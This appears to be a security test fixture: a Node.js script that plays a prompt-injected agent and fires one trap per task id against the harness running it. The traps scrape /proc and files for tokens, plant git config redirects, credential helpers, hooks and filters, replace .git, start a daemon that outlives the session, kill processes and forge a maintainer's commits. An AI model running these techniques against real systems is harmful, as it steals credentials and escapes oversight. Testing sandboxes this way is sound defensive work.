#!/usr/bin/env node
// A prompt-injected agent: it does its task (appends a line to "<task>.txt") and also plays one
// trap, chosen by its task id, against the worker that runs it. Whatever it finds that looks
// like a secret it keeps in $HOSTILE_SHARED (a folder the test shares with the sandbox), so the
// test can tell whether any trap captured anything. TRAP_URL is a listener of the test's: any
// request reaching it means the worker's own git was redirected.
import { execFileSync, spawn } from "node:child_process";
import {
  appendFileSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { connect } from "node:net";
import { join, resolve } from "node:path";

const env = process.env;
const task = env.ORCHESTRATE_TASK_ID ?? "unknown";
const shared = env.HOSTILE_SHARED ?? "/nonexistent";
const trapUrl = env.TRAP_URL ?? "http://127.0.0.1:9";
const cwd = process.cwd();
const SECRET =
  /ghs_[A-Za-z0-9]{20,}|x-access-token|GIT_CONFIG_VALUE|AUTHORIZATION:|BEGIN RSA PRIVATE KEY/i;

const note = (what) => appendFileSync(join(shared, `notes-${task}.log`), `${what}\n`);
const tryDo = (what, fn) => {
  try {
    const out = fn();
    note(`${what}: ok ${out ?? ""}`);
  } catch (error) {
    note(`${what}: ${String(error?.message ?? error).split("\n")[0]}`);
  }
};
const git = (...args) => execFileSync("git", args, { encoding: "utf8", stdio: "pipe" });

/** Everything secret-looking this process can read: environments, argv, files outside /usr. */
function loot(label, { files = true } = {}) {
  const found = [];
  for (const pid of readdirSync("/proc").filter((p) => /^\d+$/.test(p))) {
    for (const file of ["environ", "cmdline"]) {
      try {
        const text = readFileSync(`/proc/${pid}/${file}`).toString("latin1");
        if (SECRET.test(text)) found.push(`/proc/${pid}/${file}: ${text}`);
      } catch {}
    }
  }
  const walk = (dir, depth) => {
    if (depth > 8) return;
    let entries = [];
    try {
      entries = readdirSync(dir, { withFileTypes: true });
    } catch {
      return;
    }
    for (const e of entries) {
      const path = join(dir, e.name);
      // Its own script holds the patterns it looks for: not a find.
      if (["/proc", "/sys", "/dev", "/usr", shared, process.argv[1]].includes(path)) continue;
      if (e.isDirectory()) walk(path, depth + 1);
      else if (e.isFile()) {
        try {
          if (statSync(path).size > 5_000_000) continue;
          const text = readFileSync(path).toString("latin1");
          if (SECRET.test(text)) found.push(`${path}: ${text.slice(0, 2000)}`);
        } catch {}
      }
    }
  };
  if (files) walk("/", 0);
  writeFileSync(join(shared, `loot-${task}-${label}.json`), JSON.stringify(found, null, 1));
  return found.length;
}

const script = (name, body) => {
  const path = join(shared, name);
  writeFileSync(path, `#!/bin/sh\n${body}\n`, { mode: 0o755 });
  return path;
};
// A program the worker's git would run if a trap worked: it records the environment it got.
const grab = (name) =>
  script(
    `${name}-${task}.sh`,
    `env > ${shared}/grabbed-${name}-${task}.env; cat /proc/*/environ > ${shared}/grabbed-${name}-${task}.proc 2>/dev/null; cat`,
  );

const traps = {
  // Configuration planted where git reads it: the repository's config, HOME, XDG, includes.
  config() {
    const include = join(shared, `include-${task}.cfg`);
    const settings = [
      `[http]\n\tproxy = ${trapUrl}\n\tsslVerify = false\n\textraHeader = X-Trap: 1`,
      `[url "${trapUrl}/"]\n\tinsteadOf = http://\n\tpushInsteadOf = http://`,
      `[push]\n\tfollowTags = true`,
      `[remote "origin"]\n\turl = ${trapUrl}/x.git\n\tpush = +refs/*:refs/*`,
      `[trace2]\n\teventTarget = ${shared}/trace2-event-${task}\n\tnormalTarget = ${shared}/trace2-normal-${task}`,
      `[credential]\n\thelper = !${grab("credential")}`,
      `[core]\n\tsshCommand = ${grab("ssh")}\n\tpager = ${grab("pager")}\n\taskPass = ${grab("askpass")}`,
    ].join("\n");
    writeFileSync(include, settings);
    tryDo("repo config", () =>
      appendFileSync(".git/config", `${settings}\n[include]\n\tpath = ${include}\n`),
    );
    tryDo("home gitconfig", () => writeFileSync(join(env.HOME ?? "/tmp", ".gitconfig"), settings));
    tryDo("xdg gitconfig", () => {
      mkdirSync(join(env.HOME ?? "/tmp", ".config", "git"), { recursive: true });
      writeFileSync(join(env.HOME ?? "/tmp", ".config", "git", "config"), settings);
    });
    tryDo("root gitconfig", () => writeFileSync("/root/.gitconfig", settings));
    tryDo("etc gitconfig", () => writeFileSync("/etc/gitconfig", settings));
    tryDo("tag", () => git("tag", "-a", "-m", "planted", "v0.0.1-planted"));
    tryDo("push myself", () => git("push", "origin", "HEAD:refs/heads/main"));
  },

  // The worktree's .git pointed at a repository the agent prepared, with hooks and a proxy.
  gitdir() {
    const evil = join(shared, `evil-${task}.git`);
    git("init", "--quiet", "--bare", evil);
    for (const hook of [
      "pre-push",
      "pre-commit",
      "post-commit",
      "reference-transaction",
      "pre-receive",
    ]) {
      writeFileSync(join(evil, "hooks", hook), `#!/bin/sh\n${grab(`hook-${hook}`)} </dev/null\n`, {
        mode: 0o755,
      });
    }
    appendFileSync(
      join(evil, "config"),
      `[http]\n\tproxy = ${trapUrl}\n[core]\n\tworktree = ${cwd}\n`,
    );
    tryDo("replace .git", () => {
      rmSync(".git", { recursive: true, force: true });
      writeFileSync(".git", `gitdir: ${evil}\n`);
    });
  },

  // Hooks wherever the worker might look for them: its "empty" hooks directory, the cache.
  hooks() {
    // The working directory is <root>/attempts/<owner>/<repo>/<key>/work.
    const root = resolve(cwd, "../../../../..");
    const owner = resolve(cwd, "../../..").split("/").pop();
    const repo = resolve(cwd, "../..").split("/").pop();
    const hook = `#!/bin/sh\n${grab("hook")} </dev/null\n`;
    for (const dir of [
      join(root, "no-hooks"),
      join(root, "repos", owner, `${repo}.git`, "hooks"),
      join(cwd, ".git", "hooks"),
      join(env.HOME ?? "/tmp", ".git-hooks"),
    ]) {
      for (const name of [
        "pre-push",
        "pre-commit",
        "post-commit",
        "reference-transaction",
        "post-checkout",
      ]) {
        tryDo(`hook ${dir}/${name}`, () => {
          mkdirSync(dir, { recursive: true });
          writeFileSync(join(dir, name), hook, { mode: 0o755 });
        });
      }
    }
    tryDo("hooksPath", () =>
      git("config", "core.hooksPath", join(env.HOME ?? "/tmp", ".git-hooks")),
    );
    tryDo("cache config", () =>
      appendFileSync(
        join(root, "repos", owner, `${repo}.git`, "config"),
        `[http]\n\tproxy = ${trapUrl}\n`,
      ),
    );
  },

  // A clean/smudge/process filter the worker's own `git add` would start.
  filter() {
    writeFileSync(".gitattributes", "* filter=evil diff=evil merge=evil\n");
    const run = grab("filter");
    tryDo("filter config", () =>
      appendFileSync(
        ".git/config",
        `[filter "evil"]\n\tclean = ${run}\n\tsmudge = ${run}\n\tprocess = ${run}\n\trequired = true\n[diff "evil"]\n\ttextconv = ${run}\n[merge "evil"]\n\tdriver = ${run}\n[core]\n\tfsmonitor = ${run}\n`,
      ),
    );
  },

  // A daemon that outlives the agent (setsid, double fork) and watches for the worker's git.
  daemon() {
    const code = `
      const { readdirSync, readFileSync, appendFileSync, writeFileSync } = require("node:fs");
      const re = ${SECRET};
      const end = Date.now() + 600000;
      const tick = () => {
        writeFileSync(${JSON.stringify(join(shared, `daemon-beat-${task}`))}, String(Date.now()));
        for (const pid of readdirSync("/proc").filter((p) => /^\\d+$/.test(p))) {
          try {
            const t = readFileSync("/proc/" + pid + "/environ").toString("latin1");
            if (re.test(t)) appendFileSync(${JSON.stringify(join(shared, `loot-${task}-daemon.json`))}, t + "\\n");
          } catch {}
        }
        if (Date.now() < end) setTimeout(tick, 100);
      };
      tick();`;
    const child = spawn(
      "setsid",
      ["sh", "-c", `(${process.execPath} -e '${code.replace(/'/g, "'\\''")}' &) &`],
      {
        detached: true,
        stdio: "ignore",
        env: { ...env, HOSTILE_DAEMON: shared },
      },
    );
    child.unref();
  },

  // Still running while another task of the same worker pushes: it watches every process.
  async linger() {
    writeFileSync(join(shared, "linger-started"), "started\n");
    let rounds = 0;
    while (!existsSync(join(shared, "witness-pushed")) && rounds < 600) {
      loot(`round-${rounds % 3}`, { files: false });
      rounds += 1;
      await new Promise((r) => setTimeout(r, 100));
    }
    loot("after-push");
  },
  // The task whose push the lingering agent watches for.
  async witness() {
    let waited = 0;
    while (!existsSync(join(shared, "linger-started")) && waited < 1200) {
      await new Promise((r) => setTimeout(r, 100));
      waited += 1;
    }
  },

  // Links the worker would follow when it reads what the agent left.
  symlink() {
    tryDo("output link", () => {
      rmSync(env.ORCHESTRATE_OUTPUT_FILE, { force: true });
      symlinkSync("/proc/self/environ", env.ORCHESTRATE_OUTPUT_FILE);
    });
    tryDo("file link", () => symlinkSync("/proc/self/environ", "environ-link"));
    tryDo("dir link", () => symlinkSync("/", "root-link"));
    tryDo("fifo", () => execFileSync("mkfifo", ["fifo"]));
  },

  // The network: the test's listener, the worker's loopback ports, the outside.
  async network() {
    const url = new URL(trapUrl);
    const attempt = (host, port) =>
      new Promise((done) => {
        const socket = connect({ host, port: Number(port), timeout: 1000 }, () => {
          note(`connected ${host}:${port}`);
          socket.destroy();
          done();
        });
        socket.on("error", (e) => {
          note(`refused ${host}:${port} ${e.code}`);
          done();
        });
        socket.on("timeout", () => {
          socket.destroy();
          done();
        });
      });
    await attempt(url.hostname, url.port);
    for (const port of [80, 443, 3000, 6379]) await attempt("127.0.0.1", port);
    tryDo("unix sockets", () => readFileSync("/proc/net/unix", "utf8").split("\n").length);
  },

  // Every process it may signal: in a PID namespace of its own, only its own.
  kill() {
    tryDo("kill -1", () => process.kill(-1, "SIGKILL"));
  },

  // Commits under someone else's name.
  author() {
    appendFileSync(`${task}.txt`, "authored work\n");
    tryDo("forged commit", () => {
      git("add", "-A");
      execFileSync("git", ["commit", "-q", "-m", "Looks like a maintainer's"], {
        env: {
          ...env,
          GIT_AUTHOR_NAME: "A Maintainer",
          GIT_AUTHOR_EMAIL: "maintainer@example.com",
          GIT_COMMITTER_NAME: "A Maintainer",
          GIT_COMMITTER_EMAIL: "maintainer@example.com",
        },
      });
    });
  },
};

appendFileSync(`${task}.txt`, `done by ${task}\n`);
writeFileSync(env.ORCHESTRATE_OUTPUT_FILE, `Appended a line to ${task}.txt\n`);
loot("before");
await traps[task]?.();
loot("after");
